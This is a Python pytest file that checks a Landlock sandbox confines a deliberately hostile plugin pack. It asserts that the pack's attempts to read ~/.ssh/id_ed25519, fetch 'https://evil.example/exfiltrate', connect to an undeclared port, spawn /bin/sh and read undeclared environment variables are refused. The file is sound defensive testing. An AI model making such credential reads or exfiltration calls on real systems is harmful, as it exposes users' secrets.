"""Sandboxed packs (issue 35): a deliberately hostile third-party pack under
``server.sandboxed_packs: ["*"]`` cannot read, write, connect, spawn or see past its declared
permissions; each refusal reaches the caller as an ``isError`` naming the permission to add."""

from __future__ import annotations

import asyncio
import http.server
import json
import os
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import pytest

from lorenz.results import ToolResult
from lorenz.sandbox import landlock
from lorenz.workspace import Workspace, open_workspace

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        landlock.missing_feature(landlock.abi_version(), network=True) is not None, reason="no Landlock"
    ),
]


class _Api(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps({"port": self.server.server_address[1]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def apis() -> Iterator[tuple[int, int]]:
    """Two fake APIs on loopback: the declared one and one the pack has no permission for."""
    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Api) for _ in range(2)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield servers[0].server_address[1], servers[1].server_address[1]
    for server in servers:
        server.shutdown()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, sandbox_packs: ModuleType) -> Path:
    root: Path = sandbox_packs.write_site(tmp_path_factory.mktemp("sandbox-site"))
    return root


def _workflow(directory: Path, api_port: int, *, permissions: str = "") -> Path:
    (directory / "secret.txt").write_text("the workflow's secret", encoding="utf-8")
    (directory / "shared").mkdir(exist_ok=True)
    (directory / "shared" / "notes.txt").write_text("shared notes", encoding="utf-8")
    granted = permissions or f"network: ['127.0.0.1:{api_port}']\n      read: [{directory / 'shared'}]"
    front = (
        "tracker:\n  kind: local\n  path: ./board\n"
        f"tools:\n  hostile:\n    permissions:\n      {granted}\n"
        "server:\n  sandboxed_packs: ['*']\n  tool_timeout_seconds: 10\n"
    )
    path = directory / "WORKFLOW.md"
    path.write_text(f"---\n{front}---\nWork the board.\n", encoding="utf-8")
    return path


def _env() -> dict[str, str]:
    env = {key: value for key, value in os.environ.items() if not key.startswith("LORENZ_")}
    return {**env, "LORENZ_LOAD_PLUGINS": "lorenz-local,sbx-hostile"}


@pytest.fixture
def workspace(
    site: Path, tmp_path: Path, apis: tuple[int, int], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Workspace]:
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.chdir(tmp_path)
    _workflow(tmp_path, apis[0])
    monkeypatch.setenv("HOSTILE_TOKEN", "declared")  # what a pack process inherits is this process's
    monkeypatch.setenv("OTHER_TOKEN", "undeclared")
    opened = open_workspace(cwd=tmp_path, env=_env())
    try:
        yield opened
    finally:
        opened.close()
        sys.modules.pop("sbx_hostile", None)


def call(workspace: Workspace, tool: str, arguments: Any = None) -> ToolResult:
    async def run() -> ToolResult:
        async with httpx.AsyncClient() as http:
            return await workspace.call(tool, arguments or {}, http)

    return asyncio.run(run())


def _error(result: ToolResult) -> str:
    assert not result.success, result
    return str(result.error)


def test_a_sandboxed_pack_reaches_only_what_it_declared(
    workspace: Workspace, tmp_path: Path, apis: tuple[int, int]
) -> None:
    assert "sbx_hostile" not in sys.modules
    secret = tmp_path / "secret.txt"
    assert _error(call(workspace, "hostile_read", {"path": str(secret)})) == (
        f"pack hostile tried to read {secret}; add it to tools.hostile.permissions.read"
    )
    ssh = Path.home() / ".ssh" / "id_ed25519"
    assert "add it to tools.hostile.permissions.read" in _error(call(workspace, "hostile_read", {"path": str(ssh)}))
    shared = call(workspace, "hostile_read", {"path": str(tmp_path / "shared" / "notes.txt")})
    assert shared.result == {"text": "shared notes"}

    planted = tmp_path / "planted.txt"
    assert _error(call(workspace, "hostile_write", {"path": str(planted)})) == (
        f"pack hostile tried to write to {planted}; add it to tools.hostile.permissions.write"
    )
    assert not planted.exists()
    assert call(workspace, "hostile_scratch").result == {"text": "ok"}

    declared, undeclared = apis
    answered = call(workspace, "hostile_get", {"url": f"http://127.0.0.1:{declared}/v1"})
    assert answered.result == {"body": {"port": declared}}
    assert _error(call(workspace, "hostile_get", {"url": f"http://127.0.0.1:{undeclared}/v1"})) == (
        f"pack hostile tried to connect to 127.0.0.1:{undeclared}; add it to tools.hostile.permissions.network"
    )
    assert _error(call(workspace, "hostile_get", {"url": "https://evil.example/exfiltrate"})) == (
        "pack hostile tried to connect to evil.example:443; add it to tools.hostile.permissions.network"
    )
    # Past the proxy, straight to the port: the kernel refuses it.
    assert _error(call(workspace, "hostile_connect", {"port": undeclared})) == (
        f"pack hostile tried to connect to 127.0.0.1:{undeclared}; add it to tools.hostile.permissions.network"
    )

    assert _error(call(workspace, "hostile_sh")) == (
        "pack hostile tried to run /bin/sh; set tools.hostile.permissions.subprocess: true"
    )
    names = call(workspace, "hostile_env").result["names"]
    assert "HOSTILE_TOKEN" in names and "OTHER_TOKEN" not in names
    assert "add it to tools.hostile.permissions.read" in _error(call(workspace, "hostile_environ"))
